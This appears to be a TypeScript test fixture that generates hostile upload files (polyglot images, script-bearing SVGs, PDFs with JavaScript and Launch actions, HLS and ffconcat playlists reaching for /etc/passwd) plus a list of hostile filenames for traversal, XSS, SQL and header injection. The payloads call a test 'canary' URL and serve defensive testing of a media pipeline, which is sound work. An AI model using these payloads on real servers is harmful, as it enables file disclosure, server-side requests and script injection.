import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { MediaKind } from '#contract/media.ts';
import { pngOf } from '#server/testing/testing-images.ts';

/** `taken`: it begins as its kind does, so that only its conversion can tell. */
export type HostileFile = { what: string; kind: MediaKind; name: string; content: Buffer; taken: boolean };

export const NEEDLE = 'needle-of-the-hostile-corpus';

type Row = [what: string, content: string | Buffer, name?: string];

const bytes = (content: string | Buffer) => (typeof content === 'string' ? Buffer.from(content, 'latin1') : content);
const rowsOf = (kind: MediaKind, taken: boolean, rows: Row[]): HostileFile[] =>
  rows.map(([what, content, name = `a.${kind}`]) => ({ what, kind, name, content: bytes(content), taken }));

/** An atom of an MP4: its length, its name, what it holds. */
function atom(name: string, content: string | Buffer): Buffer {
  const body = bytes(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8, 0);
  head.write(name, 4, 'latin1');
  return Buffer.concat([head, body]);
}

/** Files that would read a file of ours, ask `canary`, run in a browser, or eat the machine, if anybody let them. */
export async function makeHostileFiles(canary: string): Promise<HostileFile[]> {
  const script = `<script>fetch('${canary}/script')</script><!-- ${NEEDLE} -->`;
  const page = `<!doctype html><html><body>${script}</body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${canary}/svg"/>${script}</svg>`;
  const playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nconcat:${canary}/list|file:///etc/passwd\n#EXT-X-ENDLIST\n`;
  const plain = sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 9, g: 99, b: 200 } } });
  const [png, jpeg, webp] = await Promise.all(
    [plain.clone().png(), plain.clone().jpeg(), plain.clone().webp()].map((it) => it.toBuffer()),
  );
  const [gif, tiff, avif] = await Promise.all(
    [plain.clone().gif(), plain.clone().tiff(), plain.clone().avif()].map((it) => it.toBuffer()),
  );
  const after = (head: Buffer | undefined, tail: string) => Buffer.concat([head ?? Buffer.alloc(0), Buffer.from(tail)]);
  const zip = `PK\x03\x04\x14\0\0\0\0\0${'\0'.repeat(20)}../../x.html${page}`;
  const ebml = (type: string) =>
    Buffer.from(`1a45dfa3${'9f4286810142f7810142f2810442f381084282'}`, 'hex').toString('latin1') +
    String.fromCharCode(0x80 + type.length) +
    type;
  const ftyp = (brand: string) => atom('ftyp', `${brand}\0\0\x02\0${brand}`);
  const xml = '<?xml version="1.0"?>';
  const action = `/OpenAction<</S/JavaScript/JS(app.launchURL\\('${canary}/pdf'\\))>>`;
  const pdf = (catalog: string) =>
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 90 90]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
  return [
    ...rowsOf('image', false, [
      ['an SVG with a script', svg, 'a.svg'],
      ['an SVG that is called a PNG', svg, 'a.png'],
      ['an SVG that begins with XML', `${xml}${svg}`],
      ['an SVG behind a byte order mark', Buffer.from(`\uFEFF${svg}`)],
      ['an SVG in gzip', gzipSync(svg), 'a.svgz'],
      ['a page', page, 'a.png'],
      ['XHTML', `${xml}<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`, 'a.xhtml'],
      ['a stylesheet in XML', `${xml}<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`],
      ['a mail with a page in it', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`, 'a.mht'],
      ['a GIF', gif ?? ''],
      ['a GIF that is a script', `GIF89a/*${NEEDLE}*/=1;fetch('${canary}/gif')`],
      ['a TIFF', tiff ?? ''],
      ['an AVIF', avif ?? ''],
      ['a BMP', `BM${page}`],
      ['an icon', `\0\0\x01\0\x01\0${page}`],
      ['a PDF', pdf(action)],
      ['an archive', zip, 'a.zip'],
      ['a program', `\x7fELF\x02\x01\x01${page}`],
      ['a program of Windows', `MZ\x90\0${page}`, 'a.png.exe'],
      ['a script', `#!/bin/sh\ncurl ${canary}/sh\n`],
      ['WebAssembly', '\0asm\x01\0\0\0'],
      ['a PNG that begins a byte late', Buffer.concat([Buffer.from('\n'), png ?? Buffer.alloc(0)])],
      ['a PNG without a head', `\x89PNG\r\n\x1a\n${page}`],
      ['a sound', `RIFF\x24\0\0\0WAVEfmt ${page}`],
      ['one byte', 'x'],
      ['MVG, which is a program for drawing', `push graphic-context\nfill 'url(${canary}/mvg)'\npop graphic-context`],
    ]),
    ...rowsOf('image', true, [
      ['a PNG with a page behind it', after(png, page)],
      ['a JPEG with an archive behind it', after(jpeg, zip)],
      ['a WebP with a script behind it', after(webp, script)],
      [
        'a PNG with a page in its text',
        pngOf(64, 48, Buffer.alloc(65 * 48), [['tEXt', Buffer.from(`Comment\0${page}`)]]),
      ],
      [
        'a JPEG with a page in its comment',
        Buffer.concat([
          Buffer.from('ffd8fffe', 'hex'),
          Buffer.from([0, NEEDLE.length + 2]),
          Buffer.from(NEEDLE),
          (jpeg ?? Buffer.alloc(2)).subarray(2),
        ]),
      ],
      ['a JPEG that is a page', `\xff\xd8\xff${page}`],
      ['a WebP that is a page', `RIFF\x24\0\0\0WEBP${page}`],
      ['3,600 megapixels', pngOf(60_000, 60_000, Buffer.alloc(60_001))],
      ['a PNG of no size', pngOf(0, 0)],
      ['half a PNG', (png ?? Buffer.alloc(0)).subarray(0, 60)],
    ]),
    ...rowsOf('pdf', false, [
      ['a page that is called a PDF', page, 'a.pdf'],
      ['a page with a PDF behind it', `${page}\n${pdf(action)}`],
      ['an SVG', svg, 'a.pdf'],
      ['PostScript', `%!PS-Adobe-3.0\n(${canary}/ps) run`, 'a.ps'],
      ['a PDF of a version that there is not', '%PDF-9.9\n'],
      ['the name of a PDF and a page', `%PDF-${page}`],
      ['a document of Word', zip, 'a.docx'],
      ['one byte', '%'],
    ]),
    ...rowsOf('pdf', true, [
      ['a PDF that opens with a script', pdf(action)],
      ['a PDF that starts a program', pdf('/OpenAction<</S/Launch/F(/bin/sh)>>')],
      ['a PDF with a file in it', pdf(`/Names<</EmbeddedFiles<</Names[(x.html)4 0 R]>>>>`)],
      ['a PDF that is a page', `%PDF-1.7\n${page}`],
      ['a PDF whose pages are their own parents', pdf('').replace('/Kids[3 0 R]', '/Kids[2 0 R]')],
    ]),
    ...rowsOf('video', false, [
      ['a playlist', playlist, 'a.m3u8'],
      ['a playlist that is called a film', playlist, 'a.mp4'],
      ['a playlist in an AVI', `RIFF\xff\0\0\0AVI LIST${playlist}`, 'a.mp4'],
      ['a list of files to join', `ffconcat version 1.0\nfile '/etc/passwd'\nfile '${canary}/concat'\n`],
      ['a description of a stream', `v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n`, 'a.sdp'],
      ['a manifest of DASH', `${xml}<MPD><BaseURL>${canary}/mpd</BaseURL></MPD>`, 'a.mpd'],
      ['a page', page, 'a.mp4'],
      ['an AVIF', avif ?? ''],
      ['HEIC', Buffer.concat([ftyp('heic'), atom('meta', page)])],
      ['a brand of nobody', Buffer.concat([ftyp('evil'), atom('mdat', page)])],
      ['a film of a type that there is not', `${ebml('evil')}${page}`],
      ['a film of Flash', `FLV\x01\x05\0\0\0\x09${page}`, 'a.flv'],
      ['a stream of packets', `G@\0\x10${'\xff'.repeat(184)}`, 'a.ts'],
      ['Ogg', `OggS\0\x02${page}`],
      ['one byte', '\0'],
    ]),
    ...rowsOf('video', true, [
      ['a film with a playlist in it', Buffer.concat([ftyp('isom'), atom('mdat', playlist)])],
      ['a film with a page in it', Buffer.concat([ftyp('isom'), atom('free', page)])],
      [
        'a film whose parts lie elsewhere',
        Buffer.concat([
          ftyp('qt  '),
          atom('moov', atom('rmra', atom('rmda', atom('rdrf', `\0\0\0\0url \0\0\0\x40${canary}/rdrf\0`)))),
        ]),
      ],
      ['a film of QuickTime that is a page', atom('moov', page)],
      ['a film of Matroska that is a playlist', `${ebml('matroska')}${playlist}`],
      ['a film of WebM that is a page', `${ebml('webm')}${page}`],
    ]),
  ];
}

/** What a file may be called, however it was meant. */
export const HOSTILE_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'a\0.png',
  'cover\u202Egnp.exe',
  '\u2066\u200F.png',
  'a'.repeat(300),
  '😀'.repeat(300),
  '"><img src=x onerror=alert(1)>.png',
  "'; drop table media; --.png",
  'a\r\nSet-Cookie: adhyay=x.png',
  '.',
  '..',
  '...',
  ' ',
  '.htaccess',
  '{{7*7}}.png',
  '=cmd|calc.png',
  '%2e%2e%2fpasswd',
  '\uFEFF\u2060',
  '__proto__',
  'पाठ १.png',
];
